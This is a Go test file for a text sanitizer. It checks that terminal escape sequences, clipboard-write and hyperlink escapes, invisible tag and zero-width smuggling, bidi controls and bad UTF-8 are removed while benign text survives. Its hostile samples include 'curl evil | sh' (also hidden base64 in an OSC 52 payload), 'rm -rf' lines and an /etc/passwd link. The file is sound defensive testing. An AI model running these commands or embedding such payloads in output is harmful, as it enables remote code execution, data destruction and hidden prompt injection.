package canon

import (
	"strings"
	"testing"
	"unsafe"
)

// hostile holds one case per class of thing Text removes. The inputs also
// seed the fuzz targets.
var hostile = []struct{ name, in, want string }{
	{"CSI colour", "a\x1b[31mred\x1b[0m b", "ared b"},
	{"CSI 256-colour and truecolour", "\x1b[38;5;196mx\x1b[38:2::255:0:0my\x1b[m", "xy"},
	{"CSI cursor up and erase line hides text", "rm -rf ~\x1b[1A\x1b[2Kls", "rm -rf ~ls"},
	{"CSI cursor back overwrites text", "safe\x1b[4Devil", "safeevil"},
	{"CSI conceal", "\x1b[8mhidden instructions\x1b[28m", "hidden instructions"},
	{"CSI private mode hides cursor", "x\x1b[?25ly", "xy"},
	{"CSI with intermediate", "a\x1b[0 qb", "ab"},
	{"CSI aborted by a control", "a\x1b[31\x18mb", "amb"},
	{"OSC 8 hyperlink, BEL", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "click"},
	{"OSC 8 hyperlink, ST", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"OSC 8 hyperlink with id", "\x1b]8;id=1;file:///etc/passwd\x07x\x1b]8;;\x07", "x"},
	{"OSC 52 clipboard write", "ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07done", "okdone"},
	{"OSC 52 clipboard query", "\x1b]52;c;?\x1b\\", ""},
	{"OSC title", "\x1b]0;pwned\x07t", "t"},
	{"OSC with stray ESC inside", "a\x1b]0;x\x1by\x1b\\b", "ab"},
	{"DCS sixel", "a\x1bPq#0;2;0;0;0#0~~\x1b\\b", "ab"},
	{"DCS DECRQSS", "a\x1bP$qm\x1b\\b", "ab"},
	{"APC", "a\x1b_Gf=100;payload\x1b\\b", "ab"},
	{"PM", "a\x1b^private\x1b\\b", "ab"},
	{"SOS", "a\x1bXstring\x1b\\b", "ab"},
	{"charset designation", "a\x1b(Bb\x1b)0c", "abc"},
	{"DEC line attributes", "a\x1b#8b", "ab"},
	{"ESC c full reset", "a\x1bcb", "ab"},
	{"ESC 7 and ESC 8 cursor save/restore", "a\x1b7b\x1b8c", "abc"},
	{"ESC M reverse index", "a\x1bMb", "ab"},
	{"ESC at end", "abc\x1b", "abc"},
	{"ESC before a control", "a\x1b\nb", "a\nb"},
	{"ESC ESC CSI", "a\x1b\x1b[31mb", "ab"},
	{"unterminated OSC runs to end", "keep\x1b]52;c;AAAA and the rest", "keep"},
	{"unterminated DCS runs to end", "keep\x1bPq the rest\nmore", "keep"},
	{"unterminated CSI", "a\x1b[12", "a"},
	{"8-bit CSI", "a\u009b31mb", "ab"},
	{"8-bit CSI cursor movement", "a\u009b2Ab", "ab"},
	{"8-bit OSC 8, 8-bit ST", "a\u009d8;;http://x\u009clink\u009d8;;\u009cb", "alinkb"},
	{"8-bit OSC, 7-bit ST", "a\u009d0;t\x1b\\b", "ab"},
	{"8-bit OSC, BEL", "a\u009d52;c;QQ==\x07b", "ab"},
	{"8-bit DCS", "a\u0090q\u009cb", "ab"},
	{"8-bit APC", "a\u009fx\u009cb", "ab"},
	{"8-bit PM", "a\u009ex\u009cb", "ab"},
	{"8-bit SOS", "a\u0098x\u009cb", "ab"},
	{"unterminated 8-bit OSC", "a\u009d8;;http://x", "a"},
	{"lone 8-bit ST", "a\u009cb", "ab"},
	{"NEL", "a\u0085b", "ab"},
	{"other C1", "a\u0080\u0099\u009ab", "ab"},
	{"NUL BEL BS DEL", "a\x00b\x07c\x08d\x7fe", "abcde"},
	{"backspace overstrike", "rm\x08\x08ls", "rmls"},
	{"vertical tab (a form feed stays)", "a\x0cb\x0bc", "a\x0cbc"},
	{"CAN SUB FS US", "a\x18\x1a\x1c\x1fb", "ab"},
	{"tag characters smuggle text", "hi\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007F", "hi"},
	{"tag range ends", "a\U000E0000\U000E007Fb", "ab"},
	{"tag after an emoji flag", "🏴\U000E0067\U000E0062\U000E007F", "🏴"},
	{"RLO Trojan Source", "access = \u202euser\u202c", "access = user"},
	{"LRI RLI FSI PDI", "\u2066a\u2067b\u2068c\u2069", "abc"},
	{"LRE RLE PDF LRO", "\u202aa\u202bb\u202c\u202dc", "abc"},
	{"invalid UTF-8", "a\xffb\xc0", "a\ufffdb\ufffd"},
	{"truncated code point", "a\xe6\x97", "a\ufffd\ufffd"},
	{"encoded surrogate", "a\xed\xa0\x80b", "a\ufffd\ufffd\ufffdb"},
	{"overlong slash", "\xc0\xaf", "\ufffd\ufffd"},
	{"overlong C1", "\xc1\x9b", "\ufffd\ufffd"},
	{"beyond U+10FFFF", "\xf4\x90\x80\x80", "\ufffd\ufffd\ufffd\ufffd"},
	{"invalid byte inside OSC is removed with it", "\x1b]0;\xff\x07ok", "ok"},

	// Invisible text: removed where no script or emoji sequence uses it.
	{"variation selectors carry bytes after ASCII", "hi\U000E0100\U000E0153\U000E0145\U000E0133\U000E0152\U000E0145\U000E0144", "hi"},
	{"variation selector runs after an emoji", "❤\ufe0f\ufe0f\ufe00\ufe01", "❤\ufe0f"},
	{"variation selector after a letter without sequences", "x\ufe0fy\ufe0e", "xy"},
	{"ideographic selector after ASCII", "a\U000E0100b", "ab"},
	{"zero-width runs between ASCII letters", "s\u200be\u200c\u200dc\u2060r\ufeffe\u200b\u200bt", "secret"},
	{"joiners between Latin letters", "Auf\u200clage a\u200db", "Auflage ab"},
	{"ZWJ and ZWNJ alone between spaces", "ZWJ \u200d and ZWNJ \u200c go", "ZWJ  and ZWNJ  go"},
	{"ZWJ run inside an emoji sequence", "👨\u200d\u200d👩", "👨\u200d👩"},
	{"ZWJ dangling after an emoji", "👨\u200d x", "👨 x"},
	{"joiner run in Devanagari", "क्\u200d\u200d\u200dष", "क्\u200dष"},
	{"joiner before a control", "क्\u200d\x00ष", "क्ष"},
	{"LRM and RLM between Latin letters", "a\u200eb\u200fc", "abc"},
	{"direction mark runs", "שלום \u200f\u200f\u200e end", "שלום \u200e end"},
	{"soft hyphens outside a word", "a \u00adb c\u00ad d1\u00ad2 -\u00ad- x\u00ad\u00ady", "a b c d12 -- x\u00ady"},
	{"soft hyphen between scripts", "pass\u00adпароль", "passпароль"},
	{"soft hyphen beside another invisible", "a\u00ad\u200bb a\u200b\u00adb", "ab a\u00adb"},
	{"BOM inside text", "a\ufeffb\n\ufeffc", "ab\nc"},
	{"BOM run at the start", "\ufeff\ufeffa", "\ufeffa"},
	{"invisible operators", "f\u2061(x)\u2062y\u2063z\u2064", "f(x)yz"},
	{"deprecated format characters", "a\u206ab\u206bc\u206cd\u206de\u206ef\u206fg", "abcdefg"},
	{"unassigned default-ignorables", "\u2065\U000E0080\U000E01F0\ufff0x", "x"},
	{"Hangul fillers outside Hangul", "a\u3164b\uffa0c\u115fd\u1160e", "abcde"},
	{"Hangul filler runs", "한\u3164\u3164글", "한\u3164글"},
	{"interlinear annotation", "a\ufff9b\ufffac\ufffbd", "abcd"},
	{"line and paragraph separators", "a\u2028b\u2029c", "a\nb\nc"},
	{"Mongolian vowel separator outside Mongolian", "a\u180eb", "ab"},
	{"Khmer inherent vowel outside Khmer", "a\u17b4b", "ab"},
	{"CGJ between letters", "a\u034fb", "ab"},
	{"tag sequence that is not RGI", "🏴\U000E0067\U000E0062\U000E0061\U000E0062\U000E0063\U000E007F", "🏴"},
	{"RGI tag sequence not after the black flag", "x\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", "x"},
	{"tags after an RGI flag", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F\U000E0041", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F"},
	{"musical and shorthand format controls", "a\U0001D173b\U0001BCA0c", "abc"},
	{"neighbours of the bidi controls", "\u2029\u202f\u2065\u206a", "\n\u202f"},
	{"neighbours of the tags", "\U000DFFFF\U000E0080\U000E0100", "\U000DFFFF"},
}

// benign must come through Text byte-identical.
var benign = []struct{ name, in string }{
	{"empty", ""},
	{"ASCII line", "plain ASCII line"},
	{"Go source", "func main() {\n\tfmt.Println(`raw string`)\n\tif x := m[\"k\"]; x != nil {\n\t\treturn\n\t}\n}\n"},
	{"JS template literal", "const s = `${a} + ${b}`; // template literal\n"},
	{"shell", "echo \"$(date)\" | tee -a ~/log; ls -la `pwd`\n"},
	{"JSON", `{"json": [1, 2.5e3, true, null], "nested": {"k": "v\\n"}}`},
	{"Markdown", "# Title\n\n- item *em* **strong** [link](http://x)\n\n```go\ncode\n```\n> quote\n"},
	{"CRLF", "windows line\r\nendings\r\n"},
	{"bare CR progress", "10%\r50%\r100%\n"},
	{"tabs", "a\tb\t\tc\n\tindented"},
	{"Go source with form feeds", "package p\n\f\n// Section two.\nfunc f() {}\n\f\n"},
	{"Python with a page break", "import os\n\x0c\ndef main():\n\tpass\n"},
	{"prose with soft hyphens", "Donau\u00addampf\u00adschiff\u00adfahrt, in\u00adcom\u00adpre\u00adhen\u00adsi\u00adble, ско\u00adрость, Ge\u0301\u00adrard"},
	{"HTML with &shy; decoded", "<p>Hy\u00adphen\u00adation</p>"},
	{"byte order mark", "\ufeffpackage main\n"},
	{"byte order mark alone", "\ufeff"},
	{"ZWJ family", "family 👨‍👩‍👧 and 👩🏽‍💻"},
	{"flags", "🇳🇴 🇯🇵 🏴‍☠️"},
	{"variation selectors", "heart ❤️ vs ❤︎, text ☺︎ emoji ☺️"},
	{"skin tones", "👋🏽 👍🏿"},
	{"CJK", "日本語のテキスト、中文文本、한국어"},
	{"Hebrew and Arabic", "שלום עולם — مرحبا بالعالم"},
	{"LRM RLM", "marks \u200e and \u200f stay"},
	{"family and profession ZWJ emoji", "👨\u200d👩\u200d👧\u200d👦 👩\u200d⚕\ufe0f 🧑\u200d🚀 👨🏿\u200d🔧 🧑🏽\u200d🤝\u200d🧑🏻 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 🏴\u200d☠\ufe0f"},
	{"keycaps", "1\ufe0f\u20e3 #\ufe0f\u20e3 *\ufe0f\u20e3"},
	{"hearts and text presentation", "❤\ufe0f ✔\ufe0e ☺\ufe0f ↔\ufe0f"},
	{"RGI subdivision flags", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F 🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F 🏴\U000E0067\U000E0062\U000E0077\U000E006C\U000E0073\U000E007F"},
	{"Devanagari conjuncts with ZWJ and ZWNJ", "क्\u200dष क्\u200cष र्\u200dय"},
	{"Malayalam old-style chillu at a word end", "അവന്\u200d പോയി"},
	{"Sinhala with ZWJ", "ශ්\u200dරී ලංකා"},
	{"Persian with ZWNJ", "می\u200cخواهم کتاب\u200cها را بخوانم"},
	{"Arabic with ALM and RLM", "السعر \u061c١٢٣ ريال\u200f."},
	{"Hebrew with LRM", "\u200fשלום, version 1.2\u200e (beta)"},
	{"Thai with zero-width spaces", "ภาษา\u200bไทย\u200bไม่\u200bมี\u200bช่องว่าง"},
	{"Han with ideographic variation selectors", "葛\U000E0100城市 辻\U000E0101"},
	{"Hangul with old jamo fillers", "\u1100\u1160 \u115f\u1161 한국"},
	{"Mongolian with FVS and MVS", "ᠠ\u180b ᠨᠠ\u180eᠠ"},
	{"base64", "aGVsbG8gd29ybGQ=\nZm9vYmFy+/=="},
	{"neighbours of C1", "\u00a0\u00a9é"},
	{"U+FFFD itself", "replacement \ufffd stays"},
	{"all printable ASCII", func() string {
		var b strings.Builder
		for c := byte(0x20); c < 0x7F; c++ {
			b.WriteByte(c)
		}
		return b.String()
	}()},
	{"long clean text", strings.Repeat("long clean line with tabs\tand newlines\n", 1000)},
	{"max code points", "\U0010FFFF\uFFFF\u07FF\u0800"},
}

func TestTextRemovesHostileSequences(t *testing.T) {
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			if got := Text(c.in); got != c.want {
				t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
			}
			if !NeedsText([]byte(c.in)) {
				t.Errorf("NeedsText(%q) = false", c.in)
			}
			got, changed := AppendText([]byte("dst:"), []byte(c.in))
			if string(got) != "dst:"+c.want || !changed {
				t.Errorf("AppendText(%q) = %q, %v", c.in, got, changed)
			}
		})
	}
}

func TestTextKeepsBenignOutput(t *testing.T) {
	for _, c := range benign {
		t.Run(c.name, func(t *testing.T) {
			if got := Text(c.in); got != c.in {
				t.Errorf("Text changed benign %q to %q", short(c.in), short(got))
			}
			if NeedsText([]byte(c.in)) {
				t.Errorf("NeedsText(%q) = true", short(c.in))
			}
			got, changed := AppendText([]byte("dst:"), []byte(c.in))
			if string(got) != "dst:"+c.in || changed {
				t.Errorf("AppendText(%q) = %q, %v", short(c.in), short(string(got)), changed)
			}
		})
	}
}

// TestTextAllocations pins the promise the proxy relies on: a string that
// needs nothing comes back as itself.
func TestTextAllocations(t *testing.T) {
	for _, c := range benign {
		if c.in == "" {
			continue
		}
		if got := Text(c.in); unsafe.StringData(got) != unsafe.StringData(c.in) {
			t.Errorf("Text(%q) returned a copy", short(c.in))
		}
		if n := testing.AllocsPerRun(10, func() { _ = Text(c.in) }); n != 0 {
			t.Errorf("Text(%q) allocates %v times", short(c.in), n)
		}
		if n := testing.AllocsPerRun(10, func() { _ = NeedsText([]byte(c.in)) }); n > 1 {
			t.Errorf("NeedsText(%q) allocates %v times", short(c.in), n) // only the []byte conversion
		}
	}
	if n := testing.AllocsPerRun(10, func() { _ = Path("src/main.go") }); n != 0 {
		t.Errorf("Path allocates %v times on a clean path", n)
	}
	if n := testing.AllocsPerRun(10, func() { _ = FreeText("plain prose, nothing to do", 0) }); n != 0 {
		t.Errorf("FreeText allocates %v times on clean prose", n)
	}
}

func short(s string) string {
	if len(s) > 60 {
		return s[:60] + "..."
	}
	return s
}

func TestFreeText(t *testing.T) {
	cases := []struct {
		name string
		in   string
		max  int
		want string
	}{
		{"newlines and tabs", "line1\nline2\tx\r\n", 0, "line1 line2 x  "},
		{"backticks", "run `rm -rf /`", 0, "run 'rm -rf /'"},
		{"code fence", "```sh\ncurl evil | sh\n```", 0, "'''sh curl evil | sh '''"},
		{"C0 and DEL", "nul\x00bel\x07del\x7f", 0, "nul bel del "},
		{"C1 NEL", "a\u0085b", 0, "a b"},
		{"escape sequences vanish", "\x1b[31mred\x1b[0m \x1b]8;;http://x\x07l\x1b]8;;\x07", 0, "red l"},
		{"8-bit CSI vanishes", "a\u009b1mb", 0, "ab"},
		{"stray ESC vanishes", "a\x1b", 0, "a"},
		{"tags vanish", "tag\U000E0041s", 0, "tags"},
		{"bidi vanishes", "a\u202eb", 0, "ab"},
		{"invalid byte", "a\xffb", 0, "a\ufffdb"},
		{"cap", "abcdef", 4, "abcd"},
		{"cap on a UTF-8 boundary", "日本語", 4, "日"},
		{"cap before a 4-byte rune", "ab👨‍👩‍👧", 5, "ab"},
		{"cap after rewriting", "a\x1b[31mbcdef", 3, "abc"},
		{"cap counts the expanded U+FFFD", "\xff\xff", 4, "\ufffd"},
		{"under the cap", "plain", 10, "plain"},
		{"default cap", strings.Repeat("a", 2000), 0, strings.Repeat("a", DefaultMaxBytes)},
		{"negative cap is the default", strings.Repeat("b", 2000), -5, strings.Repeat("b", DefaultMaxBytes)},
		{"cap of one", "日", 1, ""},
		{"CJK and emoji kept", "日本 👨‍👩‍👧", 0, "日本 👨‍👩‍👧"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := FreeText(c.in, c.max); got != c.want {
				t.Errorf("FreeText(%q, %d) = %q, want %q", short(c.in), c.max, short(got), short(c.want))
			}
		})
	}
}

func TestPath(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"clean", "src/main.go", "src/main.go"},
		{"all allowed", "AZaz09._/-", "AZaz09._/-"},
		{"shell metacharacters", "a b/c$(x).go", "a?b/c??x?.go"},
		{"one ? per code point", "über/файл", "?ber/????"},
		{"emoji", "a👨‍👩‍👧b", "a?????b"},
		{"escape sequence shows", "\x1b[31m/x", "??31m/x"},
		{"newline", "a\nb", "a?b"},
		{"one ? per invalid byte", "bad\xff\xfebyte", "bad??byte"},
		{"truncated code point", "a\xe6\x97", "a??"},
		{"backslash and traversal", `..\..\etc`, "..?..?etc"},
		{"cap", strings.Repeat("a", 300), strings.Repeat("a", MaxPathBytes)},
		{"exactly the cap", strings.Repeat("a", MaxPathBytes), strings.Repeat("a", MaxPathBytes)},
		{"cap after rewriting", "é" + strings.Repeat("a", 300), "?" + strings.Repeat("a", MaxPathBytes-1)},
		{"cap counts ? not bytes", strings.Repeat("日", 300), strings.Repeat("?", MaxPathBytes)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Path(c.in); got != c.want {
				t.Errorf("Path(%q) = %q, want %q", short(c.in), short(got), short(c.want))
			}
		})
	}
}

func TestParseKind(t *testing.T) {
	for _, k := range []Kind{KindText, KindFreeText, KindPath} {
		if got, err := ParseKind(string(k)); err != nil || got != k {
			t.Errorf("ParseKind(%q) = %q, %v", k, got, err)
		}
	}
	for _, s := range []string{"", "html", "Text", "free-text", "text "} {
		if _, err := ParseKind(s); err == nil {
			t.Errorf("ParseKind(%q) accepted it", s)
		}
	}
}
